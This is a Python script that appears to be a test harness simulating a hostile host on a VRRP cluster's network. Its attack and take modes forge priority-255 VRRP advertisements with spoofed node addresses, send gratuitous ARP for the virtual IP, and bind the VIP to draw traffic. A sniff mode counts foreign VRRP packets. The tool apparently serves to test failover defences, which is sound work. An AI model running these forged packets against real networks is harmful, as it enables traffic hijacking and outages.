"""What a stranger on the nodes' network tries, run as root on its own
instance (`python3 - ARGS < stranger.py`): only the standard library, as
any Debian image has it.

    python3 - attack IFACE VIP PASSWORD ROUTER_ID SECONDS NODE_ADDRESS...
        For SECONDS, ten times a second: VRRP adverts at priority 255 with
        the router id and the password, to every node and to VRRP's group,
        from its own address and from each node's address; gratuitous ARP
        for the VIP from its own MAC; an ICMP echo with the VIP as source.
        Prints what it sent, as JSON.
    python3 - take IFACE VIP PASSWORD ROUTER_ID SECONDS NODE_ADDRESS...
        The same, with the VIP on its own interface first (so that it
        answers what it draws), removed at the end.
    python3 - sniff IFACE SECONDS
        Counts the VRRP packets it receives that it did not send, as JSON.
"""

from __future__ import annotations

import fcntl
import json
import socket
import struct
import subprocess
import sys
import time

ETH_P_ALL, ETH_P_ARP, ETH_P_IP = 0x0003, 0x0806, 0x0800
VRRP_PROTOCOL, VRRP_GROUP = 112, "224.0.0.18"
SIOCGIFHWADDR, SIOCGIFADDR = 0x8927, 0x8915


def interface_mac(iface: str) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, struct.pack("256s", iface.encode()[:15]))[18:24]


def interface_address(iface: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), SIOCGIFADDR, struct.pack("256s", iface.encode()[:15]))[20:24])


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def ip_packet(source: str, destination: str, protocol: int, payload: bytes, ttl: int = 255) -> bytes:
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0xC0,
        20 + len(payload),
        0,
        0,
        ttl,
        protocol,
        0,
        socket.inet_aton(source),
        socket.inet_aton(destination),
    )
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def vrrp_advert(router_id: int, vip: str, password: str) -> bytes:
    """VRRP version 2 (RFC 3768): type advertisement, priority 255 (the
    address owner's), one address, simple text authentication, 1 s."""
    body = socket.inet_aton(vip) + password.encode()[:8].ljust(8, b"\0")
    header = struct.pack("!BBBBBBH", 0x21, router_id, 255, 1, 1, 1, 0)
    return header[:6] + struct.pack("!H", checksum(header + body)) + body


def icmp_echo() -> bytes:
    header = struct.pack("!BBHHH", 8, 0, 0, 0x4B56, 1) + b"stranger"
    return header[:2] + struct.pack("!H", checksum(header)) + header[4:]


def gratuitous_arp(mac: bytes, vip: str) -> bytes:
    address = socket.inet_aton(vip)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 2, mac, address, b"\xff" * 6, address)
    return b"\xff" * 6 + mac + struct.pack("!H", ETH_P_ARP) + arp


def attack(iface: str, vip: str, password: str, router_id: int, seconds: float, nodes: list[str]) -> dict:
    own, mac = interface_address(iface), interface_mac(iface)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((iface, 0))
    advert = vrrp_advert(router_id, vip, password)
    sent = {"vrrp_from_own_address": 0, "vrrp_from_a_node_address": 0, "gratuitous_arp": 0, "from_the_vip": 0}
    refused: dict[str, str] = {}

    def send(kind: str, packet: bytes, destination: str) -> None:
        try:
            raw.sendto(packet, (destination, 0))
            sent[kind] += 1
        except OSError as error:
            refused[f"{kind} to {destination}"] = error.strerror or str(error)

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for destination in [*nodes, VRRP_GROUP]:
            send("vrrp_from_own_address", ip_packet(own, destination, VRRP_PROTOCOL, advert), destination)
            for spoofed in nodes:
                if spoofed != destination:
                    send(
                        "vrrp_from_a_node_address", ip_packet(spoofed, destination, VRRP_PROTOCOL, advert), destination
                    )
        link.send(gratuitous_arp(mac, vip))
        sent["gratuitous_arp"] += 1
        for destination in nodes:
            send("from_the_vip", ip_packet(vip, destination, socket.IPPROTO_ICMP, icmp_echo(), ttl=64), destination)
        time.sleep(0.1)
    return {"sent": sent, "refused": refused}


def sniff(iface: str, seconds: float) -> dict:
    mac = interface_mac(iface)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    link.bind((iface, 0))
    link.settimeout(0.2)
    seen: dict[str, int] = {}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame = link.recv(2048)
        except TimeoutError:
            continue
        if frame[6:12] == mac or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP or frame[23] != VRRP_PROTOCOL:
            continue
        source = socket.inet_ntoa(frame[26:30])
        seen[source] = seen.get(source, 0) + 1
    return {"vrrp_received_from": seen}


def main(argv: list[str]) -> int:
    what, iface = argv[0], argv[1]
    if what == "sniff":
        print(json.dumps(sniff(iface, float(argv[2]))))
        return 0
    vip, password, router_id, seconds, nodes = argv[2], argv[3], int(argv[4]), float(argv[5]), argv[6:]
    if what == "take":
        subprocess.run(["ip", "addr", "add", f"{vip}/32", "dev", iface], check=True)
    try:
        print(json.dumps(attack(iface, vip, password, router_id, seconds, nodes)))
    finally:
        if what == "take":
            subprocess.run(["ip", "addr", "del", f"{vip}/32", "dev", iface], check=False)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
